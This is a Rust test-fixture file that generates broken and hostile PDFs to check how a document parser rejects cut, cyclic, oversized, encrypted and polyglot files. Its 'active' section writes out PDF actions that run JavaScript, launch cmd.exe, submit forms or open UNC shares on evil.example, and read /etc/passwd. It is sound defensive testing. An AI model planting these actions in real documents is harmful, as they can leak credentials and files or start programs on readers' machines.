//! Documents that are cut, cyclic, huge, active, or something else as well.

use std::io::Write as _;

use super::{
    Fate::{self, Either, Harmless, Refused},
    Hostile,
};
use crate::DATA_AGREEMENT;

/// A document of these objects, numbered from 1, with a table of their places. The first is the catalog.
fn pdf(objects: &[String]) -> Vec<u8> {
    pdf_with(objects, "")
}

fn pdf_with(objects: &[String], trailer: &str) -> Vec<u8> {
    let mut bytes = b"%PDF-1.7\n".to_vec();
    let mut places = Vec::new();
    for (number, object) in (1..).zip(objects) {
        places.push(bytes.len());
        // Writing to memory cannot fail.
        let _ = writeln!(bytes, "{number} 0 obj\n{object}\nendobj");
    }
    let table = bytes.len();
    let _ = writeln!(bytes, "xref\n0 {}\n0000000000 65535 f ", objects.len() + 1);
    for place in places {
        let _ = writeln!(bytes, "{place:010} 00000 n ");
    }
    let _ = writeln!(
        bytes,
        "trailer\n<< /Size {} /Root 1 0 R {trailer} >>\nstartxref\n{table}\n%%EOF",
        objects.len() + 1
    );
    bytes
}

fn texts(objects: &[&str]) -> Vec<String> {
    objects.iter().map(|object| (*object).to_owned()).collect()
}

const CATALOG: &str = "<< /Type /Catalog /Pages 2 0 R >>";
const PAGES: &str = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>";
const PAGE: &str = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>";

/// One page, with more in its catalog, in itself, and behind it.
fn page_with(catalog: &str, page: &str, more: &[&str]) -> Vec<u8> {
    let mut objects = vec![
        format!("<< /Type /Catalog /Pages 2 0 R {catalog} >>"),
        PAGES.to_owned(),
        format!("<< /Type /Page /Parent 2 0 R {page} >>"),
    ];
    objects.extend(texts(more));
    pdf(&objects)
}

fn stream(dictionary: &str, content: &str) -> String {
    format!("<< {dictionary} /Length {} >>\nstream\n{content}\nendstream", content.len())
}

pub(super) fn all() -> Vec<Hostile> {
    let mut files = Vec::new();
    let mut add =
        |what: &str, bytes: Vec<u8>, fate: Fate| files.push(Hostile::new(what, "paper.pdf", bytes, fate));
    for part in 1..30 {
        let cut = &DATA_AGREEMENT[..DATA_AGREEMENT.len() * part / 30];
        add(&format!("cut after {part} of 30 parts"), cut.to_vec(), Refused("broken"));
    }
    for place in 1..20 {
        let mut altered = DATA_AGREEMENT.to_vec();
        let at = altered.len() * place / 20;
        altered[at..at + 12].fill(0xff);
        add(&format!("twelve bytes altered at {at}"), altered, Either);
    }
    structure(&mut add);
    pages(&mut add);
    active(&mut add);
    drawn(&mut add);
    polyglots(&mut files);
    files
}

fn structure(add: &mut impl FnMut(&str, Vec<u8>, Fate)) {
    let tree = |pages: &str, more: &[&str]| {
        let mut objects = texts(&[CATALOG, pages]);
        objects.extend(texts(more));
        pdf(&objects)
    };
    add(
        "a page tree that is its own child",
        tree("<< /Type /Pages /Kids [2 0 R] /Count 1 >>", &[]),
        Refused("broken"),
    );
    let ring = ["<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 1 >>"];
    add(
        "two page trees that hold each other",
        tree("<< /Type /Pages /Kids [3 0 R] /Count 1 >>", &ring),
        Refused("broken"),
    );
    add("no pages at all", tree("<< /Type /Pages /Kids [] /Count 0 >>", &[]), Refused("broken"));
    add("a child that is not there", tree("<< /Type /Pages /Kids [99 0 R] /Count 1 >>", &[]), Either);
    for count in ["999999999", "-1", "0", "1e99", "(one)"] {
        add(
            &format!("a count of {count}"),
            tree(&format!("<< /Type /Pages /Kids [3 0 R] /Count {count} >>"), &[PAGE]),
            Either,
        );
    }
    let same = format!("<< /Type /Pages /Kids [{}] /Count 20000 >>", "3 0 R ".repeat(20_000));
    add("the same page 20,000 times", tree(&same, &[PAGE]), Either);
    let parent = ["<< /Type /Page /Parent 3 0 R /MediaBox [0 0 9 9] >>"];
    add("a page that is its own parent", tree(PAGES, &parent), Either);
    for (what, kind) in [("arrays", ("[", "]")), ("dictionaries", ("<< /A ", " >>"))] {
        for depth in [100, 5_000, 200_000] {
            let nested = format!("{}1{}", kind.0.repeat(depth), kind.1.repeat(depth));
            add(&format!("{depth} nested {what}"), tree(PAGES, &[PAGE, &nested]), Either);
        }
    }
    add("a name of a megabyte", tree(PAGES, &[PAGE, &format!("/{}", "A".repeat(1 << 20))]), Either);
    add("a text that never ends", tree(PAGES, &[PAGE, "(((((((((("]), Either);
    let whole = pdf(&texts(&[CATALOG, PAGES, PAGE]));
    let text = String::from_utf8_lossy(&whole).into_owned();
    for start in ["0", "999999999999", "-5", "x", "18446744073709551616"] {
        let at = text.rfind("startxref").unwrap_or_default();
        add(
            &format!("a table at {start}"),
            format!("{}startxref\n{start}\n%%EOF\n", &text[..at]).into_bytes(),
            Either,
        );
    }
    let table = text.find("xref\n").unwrap_or_default();
    add(
        "a table before itself",
        pdf_with(&texts(&[CATALOG, PAGES, PAGE]), &format!("/Prev {table}")),
        Either,
    );
    add("a root that is a number", pdf(&texts(&["7", PAGES, PAGE])), Refused("broken"));
    add("nothing between head and end", b"%PDF-1.4\n%%EOF\n".to_vec(), Refused("broken"));
    let locked = "/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O (00000000000000000000000000000000) \
                  /U (00000000000000000000000000000000) >> /ID [(0000000000000000) (0000000000000000)]";
    add("a password", pdf_with(&texts(&[CATALOG, PAGES, PAGE]), locked), Refused("password"));
    add(
        "an unknown lock",
        pdf_with(&texts(&[CATALOG, PAGES, PAGE]), "/Encrypt << /Filter /Mine /V 99 >>"),
        Either,
    );
}

fn pages(add: &mut impl FnMut(&str, Vec<u8>, Fate)) {
    for media in [
        "0 0 1000000000 1000000000",
        "0 0 0 0",
        "-9 -9 -1 -1",
        "200 200 0 0",
        "0 0 1e38 1e38",
        "0 0 0.0001 9",
        "0 0",
        "(a) (b) (c) (d)",
    ] {
        add(&format!("a page of [{media}]"), page_with("", &format!("/MediaBox [{media}]"), &[]), Either);
    }
    add("a page turned by 45 degrees", page_with("", "/MediaBox [0 0 9 9] /Rotate 45", &[]), Either);
    add("a unit of a million", page_with("", "/MediaBox [0 0 900 900] /UserUnit 1000000", &[]), Either);
}

fn active(add: &mut impl FnMut(&str, Vec<u8>, Fate)) {
    let page = "/MediaBox [0 0 200 200]";
    for (what, catalog) in [
        ("a script on opening", "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        ("a script on closing", "/AA << /WC << /S /JavaScript /JS (app.alert(1)) >> >>"),
        (
            "a named script",
            "/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert(1)) >>] >> >>",
        ),
        ("a program to start", "/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >>"),
        ("an address to open", "/OpenAction << /S /URI /URI (http://evil.example/) >>"),
        ("a form that sends itself", "/OpenAction << /S /SubmitForm /F (http://evil.example/) >>"),
        (
            "another document to open",
            "/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) >>",
        ),
        (
            "a form in XML",
            "/AcroForm << /XFA (<xdp:xdp xmlns:xdp='x'><script>1</script></xdp:xdp>) /Fields [] >>",
        ),
    ] {
        add(what, page_with(catalog, page, &[]), Harmless);
    }
    let embedded = "/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>] >> >>";
    add(
        "a program inside",
        page_with(embedded, page, &[&stream("/Type /EmbeddedFile", "MZ\u{1}")]),
        Harmless,
    );
    let media = "/MediaBox [0 0 200 200] /Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]";
    add("a film inside", page_with("", media, &[]), Harmless);
    let outside = stream("/F (/etc/passwd) /FFilter /None", "");
    add(
        "a stream that is another file",
        page_with("", "/MediaBox [0 0 9 9] /Contents 4 0 R", &[&outside]),
        Either,
    );
}

fn drawn(add: &mut impl FnMut(&str, Vec<u8>, Fate)) {
    let page = "/MediaBox [0 0 200 200] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> /Font << /F 5 0 R >> >>";
    let itself = stream(
        "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>",
        "/X Do",
    );
    add("a drawing that draws itself", page_with("", page, &[&stream("", "/X Do"), &itself]), Either);
    let image = "/Type /XObject /Subtype /Image /ColorSpace /DeviceGray /BitsPerComponent 8";
    for side in [30_000_u32, 2_000_000_000] {
        let bomb = stream(&format!("{image} /Width {side} /Height {side}"), "x");
        add(
            &format!("a picture of {side} by {side}"),
            page_with("", page, &[&stream("", "q 200 0 0 200 0 0 cm /X Do Q"), &bomb]),
            Either,
        );
    }
    add(
        "a million strokes",
        page_with("", page, &[&stream("", &"0 0 m 200 200 l S ".repeat(200_000)), "null"]),
        Either,
    );
    add("unbalanced states", page_with("", page, &[&stream("", &"q ".repeat(500_000)), "null"]), Either);
    add("a font that is a number", page_with("", page, &[&stream("", "BT /F 9 Tf (a) Tj ET"), "7"]), Either);
    add(
        "a size of letters beyond all measure",
        page_with(
            "",
            page,
            &[
                &stream("", "BT /F 1e30 Tf (a) Tj ET"),
                "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            ],
        ),
        Either,
    );
    for filter in [
        "/FlateDecode",
        "/LZWDecode",
        "/DCTDecode",
        "/JBIG2Decode",
        "/JPXDecode",
        "/CCITTFaxDecode",
        "/RunLengthDecode",
        "/ASCII85Decode",
        "/None",
    ] {
        let junk = stream(&format!("/Filter {filter}"), "not what it says it is");
        add(&format!("junk as {filter}"), page_with("", page, &[&junk, "null"]), Either);
    }
    let chain = stream(&format!("/Filter [{}]", "/FlateDecode ".repeat(1000)), "x");
    add("a thousand filters", page_with("", page, &[&chain, "null"]), Either);
    add(
        "a length that lies",
        page_with("", page, &["<< /Length 99999999 >>\nstream\nq\nendstream", "null"]),
        Either,
    );
    add(
        "a length that is itself",
        page_with("", page, &["<< /Length 4 0 R >>\nstream\nq\nendstream", "null"]),
        Either,
    );
}

fn polyglots(files: &mut Vec<Hostile>) {
    let mut add = |what: &str, name: &str, bytes: Vec<u8>, fate: Fate| {
        files.push(Hostile::new(what, name, bytes, fate))
    };
    let whole = pdf(&texts(&[CATALOG, PAGES, PAGE]));
    let before = |start: &[u8]| [start, &whole].concat();
    add("a web page that is a PDF", "a.html", before(b"<html><script>alert(1)</script>\n"), Either);
    add("a PDF that is an archive", "a.zip", [whole.as_slice(), b"PK\x05\x06", &[0; 18]].concat(), Either);
    let mut program = b"MZ\x90\0".to_vec();
    program.resize(128, 0);
    add("a program that is a PDF", "a.pdf", before(&program), Refused("program"));
    add("a script that is a PDF", "a.pdf", before(b"#!/bin/sh\nexit\n"), Refused("script"));
    add("a GIF that is a PDF", "a.gif", before(b"GIF89a\x01\0\x01\0\0\0\0;"), Either);
    add("a PDF behind a kilobyte of nothing", "a.pdf", before(&[b' '; 1500]), Either);
}
